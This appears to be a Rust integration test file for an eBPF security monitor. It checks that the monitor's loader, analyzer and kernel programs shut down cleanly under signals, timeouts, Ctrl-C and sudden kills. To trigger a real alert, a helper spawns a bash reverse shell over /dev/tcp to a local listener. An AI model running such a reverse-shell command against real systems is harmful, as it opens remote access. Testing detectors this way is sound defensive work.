//! However a run ends, everything ends: both processes, and the programs in the kernel.

use std::{
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use nix::sys::signal::Signal;
use sentinel_tests::{
    bed::Bed,
    peer::Peer,
    sentinel::{
        Outcome, Sentinel, alerts, bpf_programs_of, is_running, loaded_bpf_programs, program, send,
        within,
    },
};

/// The other process may take so long, and half a second more on a machine that is busy with other
/// tests.
const A_SECOND: Duration = Duration::from_millis(1500);

/// One real alert, so that there is a log to look at.
fn provoke_alert(bed: &Bed) {
    let peer = Peer::listen("127.0.0.1");
    let code = format!("bash >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port());
    let mut command = bed.command("bash");
    let mut child = command.args(["-c", &code]).stderr(Stdio::null()).spawn().unwrap();
    peer.shell().exit();
    child.wait().unwrap();
}

fn nothing_is_left(programs: &[u32], loader: u32) {
    assert!(programs.len() >= 5, "it had programs loaded: {programs:?}");
    assert!(within(A_SECOND, || !is_running(loader)), "the loader still runs");
    let gone = || {
        let loaded = loaded_bpf_programs();
        programs.iter().all(|program| !loaded.contains(program))
    };
    assert!(within(A_SECOND, gone), "programs are still loaded");
}

fn ends_well(end: impl FnOnce(Sentinel) -> Outcome, arguments: &[&str]) {
    let Some(bed) = Bed::new() else { return };
    let sentinel = Sentinel::start(&bed, arguments);
    let (programs, loader) = (bpf_programs_of(sentinel.loader()), sentinel.loader());
    provoke_alert(&bed);
    let outcome = end(sentinel);
    assert!(outcome.status.success(), "{outcome:?}");
    assert_eq!(outcome.alerts.len(), 1);
    for word in ["Summary", "seen", "after filter", "emitted", "dropped 0"] {
        assert!(outcome.output.contains(word), "{}", outcome.output);
    }
    assert_eq!(outcome.errors, "");
    nothing_is_left(&programs, loader);
}

#[test]
fn sigint_ends_all() {
    ends_well(|sentinel| sentinel.signal(Signal::SIGINT), &[]);
}

#[test]
fn sigterm_ends_all() {
    ends_well(|sentinel| sentinel.signal(Signal::SIGTERM), &[]);
}

#[test]
fn duration_ends_all() {
    let begun = Instant::now();
    ends_well(Sentinel::wait, &["--duration=3"]);
    assert!(begun.elapsed() >= Duration::from_secs(3) || cannot_run());
}

fn cannot_run() -> bool {
    !nix::unistd::geteuid().is_root()
}

#[test]
fn ctrl_c_at_a_terminal_ends_all_in_order() {
    let Some(bed) = Bed::new() else { return };
    // script(1) gives it a terminal; its keyboard signals the whole foreground group.
    let log = bed.path("alerts.json");
    let run = format!(
        "{} run --scope-cgroup={} --grimoire-log={}",
        program().display(),
        bed.cgroup().display(),
        log.display()
    );
    let transcript = bed.path("transcript");
    let mut terminal = Command::new("script")
        .args(["-qefc", &run])
        .arg(&transcript)
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let seen = |text: &str| {
        let bytes = std::fs::read(&transcript).unwrap_or_default();
        String::from_utf8_lossy(&bytes).contains(text)
    };
    assert!(within(Duration::from_secs(30), || seen("hooks attached")));
    provoke_alert(&bed);
    assert!(within(Duration::from_secs(5), || seen("elapsed")), "a status line");
    std::io::Write::write_all(terminal.stdin.as_mut().unwrap(), b"\x03").unwrap();
    assert!(terminal.wait().unwrap().success());
    assert!(seen("Summary") && seen("CRITICAL"));
    assert!(seen("\x1b["), "colour on a terminal");
    assert_eq!(alerts(&log).len(), 1);
}

#[test]
fn sudden_death_of_the_loader_ends_the_run_and_is_said() {
    let Some(bed) = Bed::new() else { return };
    let sentinel = Sentinel::start(&bed, &[]);
    let (programs, loader) = (bpf_programs_of(sentinel.loader()), sentinel.loader());
    provoke_alert(&bed);
    send(loader, Signal::SIGKILL);
    let outcome = sentinel.wait();
    assert!(outcome.took < A_SECOND, "{:?}", outcome.took);
    assert_eq!(outcome.status.code(), Some(1));
    assert!(outcome.errors.contains("the loader is gone"), "{}", outcome.errors);
    assert!(outcome.alerts.len() <= 1);
    nothing_is_left(&programs, loader);
}

#[test]
fn sudden_death_of_the_analyzer_ends_the_loader() {
    let Some(bed) = Bed::new() else { return };
    let mut sentinel = Sentinel::start(&bed, &[]);
    let (programs, loader) = (bpf_programs_of(sentinel.loader()), sentinel.loader());
    provoke_alert(&bed);
    sentinel.wait_for("CRITICAL");
    let log = sentinel.log().to_owned();
    let outcome = sentinel.signal(Signal::SIGKILL);
    assert!(!outcome.status.success());
    nothing_is_left(&programs, loader);
    assert_eq!(alerts(&log).len(), 1, "whole lines");
}

#[test]
fn a_stopped_loader_does_not_hold_up_the_end() {
    let Some(bed) = Bed::new() else { return };
    let sentinel = Sentinel::start(&bed, &[]);
    let (programs, loader) = (bpf_programs_of(sentinel.loader()), sentinel.loader());
    send(loader, Signal::SIGSTOP);
    let outcome = sentinel.signal(Signal::SIGTERM);
    assert!(outcome.took < 2 * A_SECOND, "{:?}", outcome.took);
    assert!(outcome.output.contains("ended without its totals"), "{}", outcome.output);
    nothing_is_left(&programs, loader);
}
